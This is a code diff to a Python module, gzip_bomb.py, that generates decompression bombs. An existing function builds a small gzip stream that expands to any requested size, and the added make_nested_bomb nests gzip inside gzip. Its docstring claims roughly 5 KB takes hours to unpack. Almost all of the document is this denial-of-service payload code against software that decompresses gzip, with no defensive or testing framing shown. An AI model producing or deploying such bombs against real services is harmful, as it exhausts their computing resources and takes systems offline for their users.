@@ -1,4 +1,4 @@
-"""gzip_bomb.py: a small gzip stream that unpacks to as many bytes as asked, made without unpacking it."""
+"""gzip_bomb.py: small gzip streams that unpack to very much, made without unpacking them."""
 import struct
 import zlib
 
@@ -20,3 +20,14 @@ def make_bomb(size):
     checksum = zlib.crc32(BLOCK[:rest] + b"]", checksum)
     length = 2 + blocks * len(BLOCK) + rest
     return b"".join((HEADER, start, block * blocks, end, struct.pack("<II", checksum, length & 0xFFFFFFFF)))
+
+
+def make_nested_bomb(levels):
+    """Gzip in gzip: the innermost holds empty blocks only, so that whoever unpacks all of them gets no byte
+    out of it.  Each level has about 500 times the one below: 5 KB in 4 levels take hours."""
+    head, piece = HEADER, b"\x00\x00\x00\xff\xff" * (len(BLOCK) // 5)
+    for _ in range(levels - 1):
+        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+        head = HEADER + packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
+        piece = packer.compress(piece * max(1, len(BLOCK) // len(piece))) + packer.flush(zlib.Z_FULL_FLUSH)
+    return head + piece
